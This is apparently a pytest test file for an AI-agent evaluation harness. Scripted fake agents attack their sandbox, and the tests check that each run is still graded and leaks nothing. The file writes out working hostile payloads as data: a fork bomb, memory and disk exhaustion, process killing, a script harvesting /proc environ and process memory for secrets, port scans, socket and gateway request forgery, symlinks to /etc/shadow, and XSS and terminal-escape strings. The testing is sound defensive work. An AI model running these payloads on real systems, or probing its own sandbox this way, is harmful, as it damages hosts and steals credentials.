"""Agents that do harm, through the command line and real sandboxes: every run ends and is graded.

Each agent hands over the best known schedule before or after its mischief, so that a run that was
graded as it should has the score 1. One sweep holds them all.
"""

from __future__ import annotations

import json
import re
import shutil
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from fde_ray.model.result import RunResult
from fde_ray.model.states import GradeState, SolveEnd
from tests.e2e.fake_models import (
    FakeModels,
    Raw,
    Says,
    Script,
    fake_models,
    in_turn,
    runs,
    says,
    tool_outputs,
)
from tests.e2e.hostile import (
    BEST,
    CASE,
    MARKER,
    Done,
    by_system,
    collected,
    collected_files,
    fde_ray,
    leftovers,
    minimal,
    write_profile,
    write_spec,
)

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap"),
]

HANDS_OVER = Says(calls=(("write", {"path": "schedule.csv", "text": BEST}),))
DONE = says("The schedule is in schedule.csv.")
API_KEY = "operator-key-canary-7f31"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\x00\x08\u202egnp.exe\u2028"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'</style>"


def python(text: str) -> str:
    return f"python3 - <<'THE_END'\n{textwrap.dedent(text)}\nTHE_END"


def asks(*questions: str) -> Says:
    return says(f"I need to know.\n\n{MARKER}\n\n" + "\n".join(f"- {q}" for q in questions))


BINARY = r"""
    import os, sys
    sys.stdout.buffer.write(os.urandom(300_000) + bytes(range(256)) * 8)
    sys.stdout.buffer.write(b"\x1b]0;owned\x07\x1b[2J\x1b[1;1H")
"""
BOMB = "exec 2>/dev/null; (b() { b | b & }; b); for n in $(seq 400); do sleep 300 & done; true"
MEMORY = """
    import os
    for _ in range(4):
        if os.fork() == 0:
            break
    hoard = []
    while True:
        hoard.append(bytearray(os.urandom(1 << 20)) * 8)
"""
TMP = "for d in /tmp /home/agent /dev/shm; do head -c 300M /dev/zero > $d/full; done; true"
LOOT = """
    import io, os, stat, tarfile
    names = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        names += [f"/proc/{pid}/{n}" for n in ("environ", "cmdline", "maps", "mountinfo", "status")]
        try:
            names += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    shared = {"usr", "proc", "sys", "lib", "lib64", "bin", "sbin"}
    for root in sorted(set(os.listdir("/")) - shared):
        for folder, _, files in os.walk("/" + root):
            if not folder.startswith(("/workspace", "/opt/agent-env")):
                names += [os.path.join(folder, name) for name in files]
    with open("/workspace/loot.txt", "wb") as loot:
        for name in names:
            if loot.tell() > 20 << 20:
                break
            try:
                loot.write(f"== {name} -> {os.path.realpath(name)}\\n".encode("utf-8", "replace"))
                if "/proc/" not in name and not stat.S_ISREG(os.stat(name).st_mode):
                    continue
                if "/fd/" in name and not stat.S_ISREG(os.stat(name).st_mode):
                    continue
                with open(name, "rb") as file:
                    loot.write(file.read(200_000) + b"\\n")
            except OSError as error:
                loot.write(f"{error}\\n".encode())
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                for line in open(f"/proc/{pid}/maps"):
                    span, mode = line.split()[:2]
                    if not mode.startswith("rw"):
                        continue
                    first, last = (int(x, 16) for x in span.split("-"))
                    with open(f"/proc/{pid}/mem", "rb") as memory:
                        memory.seek(first)
                        data = memory.read(min(last - first, 2 << 20))
                        for word in data.replace(b"\\0", b"\\n").split(b"\\n"):
                            if len(word) > 30 and loot.tell() < 40 << 20:
                                loot.write(word[:300] + b"\\n")
            except (OSError, ValueError, OverflowError):
                pass
"""
FORGE = """
    import json, os, socket, threading, urllib.error, urllib.request
    base = os.environ["FDE_BASE_URL"]
    host, port = base[7:].split(":")
    for number in range(1, 65536, 1):
        if number % 4096 == 1:
            print("ports", number)
        with socket.socket() as knock:
            knock.settimeout(0.2)
            # A socket may meet itself when its own port is the one it knocks at.
            if not knock.connect_ex(("127.0.0.1", number)) and knock.getsockname()[1] != number:
                print("open", number, number == int(port))
    lines = open("/proc/net/unix").read().splitlines()[1:]
    for path in {line.split()[-1] for line in lines if "/" in line or "@" in line.split()[-1]}:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(socket.AF_UNIX, kind) as sock:
                try:
                    sock.connect("\\0" + path[1:] if path.startswith("@") else path)
                    print("connected", path)
                    for message in ({"type": "start"}, {"type": "message", "text": "x"},
                                    {"type": "turn", "text": "forged"}, {"type": "exit"}):
                        sock.sendall(json.dumps(message).encode() + b"\\n")
                except OSError:
                    pass
    for folder, _, files in os.walk("/run"):
        for name in files:
            try:
                with socket.socket(socket.AF_UNIX) as sock:
                    sock.settimeout(1)
                    sock.connect(os.path.join(folder, name))
                    print("reached", os.path.join(folder, name))
            except OSError:
                pass
    def ask(method, path, data=None, **headers):
        request = urllib.request.Request(base + path, data, method=method)
        for key, value in headers.items():
            request.add_header(key.replace("_", "-"), value)
        try:
            with urllib.request.urlopen(request, timeout=20) as reply:
                return reply.status, reply.read()[:200]
        except urllib.error.HTTPError as error:
            return error.code, error.read()[:200]
        except OSError as error:
            return type(error).__name__, b""
    for method, path in (("POST", "/v1/commit"), ("PUT", "/v1/parts/final/0"), ("POST", "/v1/exit"),
                         ("POST", "/v1/turns"), ("POST", "/v1/token"), ("GET", "/v1/inputs"),
                         ("POST", "/v1/evaluate"), ("GET", "/v1/archives/sealed"),
                         ("POST", "/v1/heartbeat"), ("GET", "/metrics"), ("GET", "/docs")):
        print("asked", method, path, *ask(method, path, b"{}" if method != "GET" else None))
    chat = {"model": "fake/forger", "messages": [{"role": "user", "content": "hi"}]}
    for model in ("fake/customer", "offline/customer", "offline/reference", "gpt-4"):
        print("other", model, *ask("POST", "/v1/chat/completions",
                                   json.dumps({**chat, "model": model}).encode()))
    for body in (b"", b"[]", b"nonsense", b'{"model": 1}', b"{" * 5000,
                 json.dumps({**chat, "messages": "x"}).encode(), b"x" * (33 << 20)):
        print("body", len(body), ask("POST", "/v1/chat/completions", body)[0])
    post = b"POST /v1/chat/completions HTTP/1.1\\r\\n"
    for raw in (b"GET / HTTP/9.9\\r\\n\\r\\n", b"\\x00" * 4000 + b"\\n",
                post + b"content-length: -5\\r\\n\\r\\n",
                post + b"transfer-encoding: chunked\\r\\n\\r\\nZZZ\\r\\n",
                post + b"content-length: 5\\r\\ncontent-length: 999\\r\\n\\r\\nhello"):
        with socket.create_connection((host, int(port)), 5) as sock:
            sock.sendall(raw)
            try:
                print("raw", sock.recv(40)[:30])
            except OSError as error:
                print("raw", error)
    agent = os.getppid()
    while b"minimal" not in open(f"/proc/{agent}/cmdline", "rb").read():
        agent = int(open(f"/proc/{agent}/stat").read().rpartition(")")[2].split()[1])
    with open(f"/proc/{agent}/fd/1", "wb") as out:
        for line in ({"type": "commit", "final": True}, {"type": "start", "agent": "minimal"},
                     {"type": "scope", "scope": "collect"}, {"type": "hello"}, {"type": "answer"}):
            out.write(json.dumps(line).encode() + b"\\n")
"""
HOLDS = """
    import os, socket, time
    host, port = os.environ["FDE_BASE_URL"][7:].split(":")
    held = []
    for _ in range(200):
        sock = socket.create_connection((host, int(port)), 5)
        sock.sendall(b"POST /v1/chat/completions HTTP/1.1\\r\\ncontent-length: 100\\r\\n\\r\\n{")
        held.append(sock)
    print("held", len(held))
    time.sleep(1)
"""
ODD_FILES = r"""
    import os, socket
    os.chdir("/workspace")
    os.symlink("/etc/passwd", "passwd.csv")
    os.symlink("/proc/1/environ", "environ")
    os.symlink("../../../../../../etc/shadow", "shadow")
    os.symlink(".", "loop")
    os.symlink("nowhere", "dangling")
    os.mkfifo("pipe")
    socket.socket(socket.AF_UNIX).bind("door")
    for how in ((0o20666, os.makedev(1, 3)), (0o60666, os.makedev(8, 0))):
        try:
            os.mknod("device", *how)
        except OSError:
            pass
    for name in (b"\xff\xfe.csv", b"new\nline", b"tab\t\x1b[31m", b"-rf", b" ", b"~", b"CON",
                 "\u202etxt.exe".encode(), b"%2e%2e%2f", b"a" * 255, b"..\\..\\x", b"\xed\xa0\x80"):
        with open(name, "wb") as file:
            file.write(b"x")
    os.makedirs("closed/inside")
    for name in ("closed/inside/secret", "unreadable"):
        with open(name, "w") as file:
            file.write("x")
        os.chmod(name, 0)
    os.chmod("closed/inside", 0)
    os.chmod("closed", 0)
    with open("suid", "w") as file:
        os.fchmod(file.fileno(), 0o6777)
    for _ in range(600):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/workspace")
    os.link("schedule.csv", "hard")
"""
SPARSE = r"""
    import os, signal
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    os.chdir("/workspace")
    for name, size in (("huge", 10 << 30), ("large", 60 << 20)):
        with open(name, "wb") as file:
            try:
                os.truncate(name, size)
            except OSError as error:
                print("refused", name, error.errno)
"""
MANY = """
    import os
    os.mkdir("/workspace/many")
    for number in range(NUMBER):
        os.close(os.open(f"/workspace/many/{number}", os.O_CREAT | os.O_WRONLY))
"""
FOLDERS = """
mkdir -p _agent_summary.md _result.json evaluate && mv schedule.csv rolling_plan.csv
echo planted > _agent_summary.md/notes; echo x > _result.json/y
printf 'x' > NOTES.md; mkdir -p data && echo planted > data/coils.csv; true
"""

SCRIPTS: dict[str, Script] = {
    "binary": in_turn(HANDS_OVER, runs(python(BINARY)), says(f"done {ESCAPES}")),
    "bomb": in_turn(HANDS_OVER, runs(BOMB, 6), runs("echo alive"), DONE),
    "disk": in_turn(HANDS_OVER, runs("yes | head -c 62M > fat; sleep 20; true"), DONE),
    "tmp": in_turn(HANDS_OVER, runs(TMP), runs("sleep 3"), DONE),
    "memory": in_turn(HANDS_OVER, runs(python(MEMORY)), runs("echo alive"), DONE),
    "idle": in_turn(says("Nothing to do for me.")),
    "thief": in_turn(HANDS_OVER, runs(python(LOOT)), DONE),
    "forger": in_turn(HANDS_OVER, runs(python(FORGE)), DONE),
    "holder": in_turn(HANDS_OVER, runs(python(HOLDS)), runs("echo alive"), DONE),
    "killer": in_turn(HANDS_OVER, runs("kill -9 1; kill -STOP 1; kill -9 -1; echo alive"), DONE),
    "odd": in_turn(HANDS_OVER, runs(python(ODD_FILES)), DONE),
    "sparse": in_turn(HANDS_OVER, runs(python(SPARSE)), DONE),
    "hoarder": in_turn(HANDS_OVER, runs("truncate -s 60M one two three"), DONE),
    "many": in_turn(HANDS_OVER, runs(python(MANY.replace("NUMBER", "3_000"))), DONE),
    "folders": in_turn(HANDS_OVER, runs(FOLDERS), says("The plan is in rolling_plan.csv.")),
    "repeater": in_turn(
        asks("What is the longest roll set?", "May width grow?"),
        asks("  WHAT is the longest   roll set? ", "may width grow"),
        asks("What is the gauge rule?"),
        HANDS_OVER,
        DONE,
    ),
    "markup": in_turn(
        asks(f"May I use {MARKUP} {ESCAPES} anywhere?"),
        HANDS_OVER,
        says(f"{MARKUP} {ESCAPES} javascript:alert(3) {{{{ 7*7 }}}} ${{7*7}}"),
    ),
}


def chatter(messages: list[dict[str, object]]) -> Says:
    asked = sum(MARKER in str(m["content"]) for m in messages if m["role"] == "assistant")
    if asked < 31:
        return asks(f"Question number {asked + 1}?")
    return HANDS_OVER if messages[-1]["role"] == "user" else DONE


SCRIPTS["chatter"] = chatter
CUSTOMER = says(f"As you see fit. {MARKUP} {ESCAPES}")
STUBBORN = {
    "sleeper": in_turn(HANDS_OVER, runs("sleep 3600", 3600)),
    "looper": in_turn(HANDS_OVER, runs("trap '' TERM INT; nohup setsid sleep 3600 & sleep 0.5")),
    "flooder": in_turn(HANDS_OVER, runs("yes", 3600)),
    "interrogator": in_turn(HANDS_OVER, asks(*(f"What is rule {n}?" for n in range(2_000)))),
}
SLOW_CUSTOMER = Raw(says("It is as it is.").body(0), delay_s=0.1)


class Sweep(NamedTuple):
    home: Path
    profile: Path
    models: FakeModels
    ended: Done
    results: dict[str, RunResult]

    def saw(self, name: str) -> str:
        """Return what the tools told an agent."""
        return tool_outputs(self.models.seen(name))


@pytest.fixture(scope="module")
def sweep(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sweep]:
    home = tmp_path_factory.mktemp("agents")
    scripts = {**SCRIPTS, "customer": in_turn(CUSTOMER)}
    with fake_models(scripts) as models:
        profile = write_profile(home, models.base_url)
        config = profile.read_text().replace("base_url", "api_key_env: FDE_CANARY\n  base_url")
        profile.write_text(config)
        spec = write_spec(
            home,
            "hostile",
            minimal(*SCRIPTS),
            conditions=["interact_req"],
            customer={"model": "fake/customer"},
            panel={"passthrough": True},
        )
        ended = fde_ray(
            home, "sweep", "submit", str(spec), "--profile", str(profile), FDE_CANARY=API_KEY
        )
        yield Sweep(home, profile, models, ended, by_system(home, "hostile"))


@pytest.fixture(scope="module")
def clocked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sweep]:
    home = tmp_path_factory.mktemp("clocked")
    with fake_models({**STUBBORN, "customer": in_turn(SLOW_CUSTOMER)}) as models:
        profile = write_profile(home, models.base_url)
        spec = write_spec(
            home,
            "clocked",
            minimal(*STUBBORN),
            conditions=["interact_req"],
            customer={"model": "fake/customer"},
            limits={"time": "6s"},
            panel={"passthrough": True},
        )
        ended = fde_ray(home, "sweep", "submit", str(spec), "--profile", str(profile))
        yield Sweep(home, profile, models, ended, by_system(home, "clocked"))


def test_every_run_is_graded_and_none_is_tried_again(sweep: Sweep) -> None:
    assert sweep.ended.code == 0, sweep.ended.err[-3000:]
    assert set(sweep.results) == set(SCRIPTS)
    for name, result in sweep.results.items():
        assert result.grade is GradeState.SCORED, name
        assert len(result.attempts) == 1, name
        assert result.solve_end.is_graded, name


def test_nothing_is_left_running_and_nothing_was_said_raw(sweep: Sweep) -> None:
    assert leftovers(sweep.home) == []
    assert "\x1b" not in sweep.ended.out + sweep.ended.err
    assert API_KEY not in sweep.ended.out + sweep.ended.err


@pytest.mark.parametrize(
    "name", ["binary", "bomb", "forger", "holder", "odd", "sparse", "many", "folders", "chatter"]
)
def test_mischief_that_is_survived_changes_no_score(sweep: Sweep, name: str) -> None:
    result = sweep.results[name]
    assert (result.solve_end, result.score) == (SolveEnd.SUBMITTED, 1.0), sweep.saw(name)[-2000:]


@pytest.mark.parametrize("name", ["disk", "memory", "tmp"])
def test_an_agent_that_eats_the_machine_ends_by_its_own_fault_and_is_graded(
    sweep: Sweep, name: str
) -> None:
    result = sweep.results[name]
    assert result.solve_end in (SolveEnd.AGENT_RESOURCE, SolveEnd.SUBMITTED)
    assert result.score == 1.0
    if name == "disk":
        assert result.solve_end is SolveEnd.AGENT_RESOURCE


def test_an_agent_that_kills_all_it_can_ends_in_agent_error_and_is_graded(sweep: Sweep) -> None:
    result = sweep.results["killer"]
    assert result.solve_end is SolveEnd.AGENT_ERROR
    assert result.score == 1.0


def test_an_archive_over_its_cap_is_the_agents_fault_and_the_record_says_so(sweep: Sweep) -> None:
    result = sweep.results["hoarder"]
    assert (result.score, result.zero_signature) == (0.0, "no_artifact")
    assert "archive" in result.attempts[0].detail


def test_rule_12_an_agent_that_delivers_nothing_is_pushed_and_scores_zero(sweep: Sweep) -> None:
    result = sweep.results["idle"]
    assert (result.solve_end, result.pushes) == (SolveEnd.NO_DELIVERY, 1)
    assert (result.score, result.valid, result.zero_signature) == (0.0, False, "no_artifact")


def test_rule_11_a_batch_asked_again_is_not_answered_and_counts_nowhere(sweep: Sweep) -> None:
    result = sweep.results["repeater"]
    assert [len(one.questions) for one in result.rounds] == [2]
    assert [len(batch.questions) for batch in result.refused_batches] == [2, 1]
    assert result.solve_end in (SolveEnd.SUBMITTED, SolveEnd.NO_DELIVERY)
    asked = [call["messages"][-1]["content"] for call in sweep.models.calls["customer"]]
    assert len([a for a in asked if "roll set" in a.lower()]) == 1


def test_rule_11_the_thirty_first_round_is_not_answered(sweep: Sweep) -> None:
    result = sweep.results["chatter"]
    assert len(result.rounds) == 30
    (refused,) = result.refused_batches
    assert refused.questions == ("Question number 31?",)
    assert result.metrics is not None
    assert result.metrics.n_units == 30


def test_secrets_are_nowhere_in_what_an_agent_can_read(sweep: Sweep) -> None:
    run_id = sweep.results["thief"].run_id
    loot = collected_files(sweep.home, run_id)
    (text,) = (data for name, data in loot.items() if name.endswith("loot.txt"))
    assert b"== /proc/1/environ" in text
    assert len(text) > 20_000
    key = json.loads((sweep.home / "plane.key").read_text())["secret"]
    meta = (CASE / "case.toml").read_text()
    canary = re.search(r'canary = "([0-9a-f-]{36})"', meta)
    assert canary is not None
    needles = [key, bytes.fromhex(key), API_KEY, canary[1], "eyJhbGciOi"]
    needles += ["sealed/", "fde_ray/engine", "information.md", "plane.key"]
    for needle in needles:
        raw = needle if isinstance(needle, bytes) else needle.encode()
        place = text.find(raw)
        assert place < 0, text[max(0, place - 300) : place + 200]
    # The scheme of the bootstrap secret: a hash of the attempt's name under the signing key.
    words = set(re.findall(rb"\b[0-9a-f]{64}\b", text))
    from fde_ray.gateway.signing import load_signing_key
    from fde_ray.gateway.tokens import TokenSigner
    from fde_ray.model.clock import SystemClock

    signer = TokenSigner(load_signing_key(sweep.home), SystemClock())
    assert signer.bootstrap_secret(f"{run_id}.1").encode() not in words


def test_nothing_but_model_calls_can_be_reached_or_forged(sweep: Sweep) -> None:
    saw = sweep.saw("forger")
    assert re.findall(r"^open (\d+) (\w+)$", saw, re.M), saw
    assert all(own == "True" for _, own in re.findall(r"^open (\d+) (\w+)$", saw, re.M)), saw
    assert "connected" not in saw, saw
    asked = re.findall(r"^asked (\w+) (\S+) (\S+)", saw, re.M)
    assert len(asked) == 11, saw
    assert {status for _, _, status in asked} == {"403"}, saw
    others = re.findall(r"^other (\S+) (\S+)", saw, re.M)
    # The run's own model answers, whatever name is said.
    assert {status for _, status in others} == {"200"}, saw
    assert len(sweep.models.calls["forger"]) >= len(others)
    bodies = re.findall(r"^body (\d+) (\S+)", saw, re.M)
    assert len(bodies) == 7, saw
    assert all(status.startswith("4") for _, status in bodies), saw
    assert sweep.results["forger"].rounds == ()
    assert not sweep.models.calls["gpt-4"]


def test_links_devices_and_odd_names_are_left_out_or_kept_as_they_are(sweep: Sweep) -> None:
    raw = collected(sweep.home, sweep.results["odd"].run_id)
    assert b"root:x:0:0" not in raw
    assert b"\xff\xfe.csv" in raw
    assert sweep.results["odd"].files is not None


def test_a_workspace_of_many_files_is_kept_whole(sweep: Sweep) -> None:
    assert sweep.results["many"].files == 3_001


@pytest.mark.slow
def test_a_workspace_of_fifty_thousand_files_is_kept_whole(tmp_path: Path) -> None:
    command = python(MANY.replace("NUMBER", "50_000"))
    with fake_models({"many": in_turn(HANDS_OVER, runs(command), DONE)}) as models:
        profile = write_profile(tmp_path, models.base_url)
        spec = write_spec(tmp_path, "many", minimal("many"))
        assert fde_ray(tmp_path, "sweep", "submit", str(spec), "--profile", str(profile)).code == 0
    result = by_system(tmp_path, "many")["many"]
    assert (result.files, result.score) == (50_001, 1.0)


def test_planted_summary_and_result_folders_do_not_mislead_the_extractors(sweep: Sweep) -> None:
    routes = sweep.results["folders"].routes
    assert [route.vote for route in routes] == [1.0, 1.0, 1.0]


@pytest.mark.parametrize("command", ["show", "logs", "explain"])
@pytest.mark.parametrize("name", ["markup", "binary"])
def test_a_run_is_harmless_to_look_at(sweep: Sweep, name: str, command: str) -> None:
    run_id = sweep.results[name].run_id
    for extra in ((), ("--json",)):
        done = fde_ray(sweep.home, "run", command, run_id, "--profile", str(sweep.profile), *extra)
        assert done.code == 0, done.err
        assert_harmless(done.out + done.err)
        if extra:
            json.loads(done.out)


def test_the_report_page_is_harmless(sweep: Sweep) -> None:
    (page,) = (sweep.home / "reports").rglob("*.html")
    text = page.read_text(encoding="utf-8")
    assert "<script>alert" not in text
    assert "<img src=x" not in text
    assert "Content-Security-Policy" in text
    assert_harmless(text)


def test_rule_06_a_run_that_the_clock_ends_is_graded_and_flagged(clocked: Sweep) -> None:
    assert clocked.ended.code == 0, clocked.ended.err[-2000:]
    assert set(clocked.results) == set(STUBBORN)
    for name, result in clocked.results.items():
        assert (result.solve_end, result.timed_out) == (SolveEnd.TIME_LIMIT, True), name
        assert (result.score, len(result.attempts)) == (1.0, 1), name
        assert result.charged_s is not None
        assert 5.9 < result.charged_s < 9, name
    assert leftovers(clocked.home) == []


def test_rule_06_no_question_is_answered_after_the_clock_has_ended(clocked: Sweep) -> None:
    (one,) = clocked.results["interrogator"].rounds
    asked = len(clocked.models.calls["customer"])
    assert 0 < asked <= 100
    assert len([q for q in one.questions if q.answer]) <= asked


def assert_harmless(text: str) -> None:
    steering = {c for c in text if not c.isprintable() and c not in "\n\t"}
    assert not steering, sorted(map(ascii, steering))
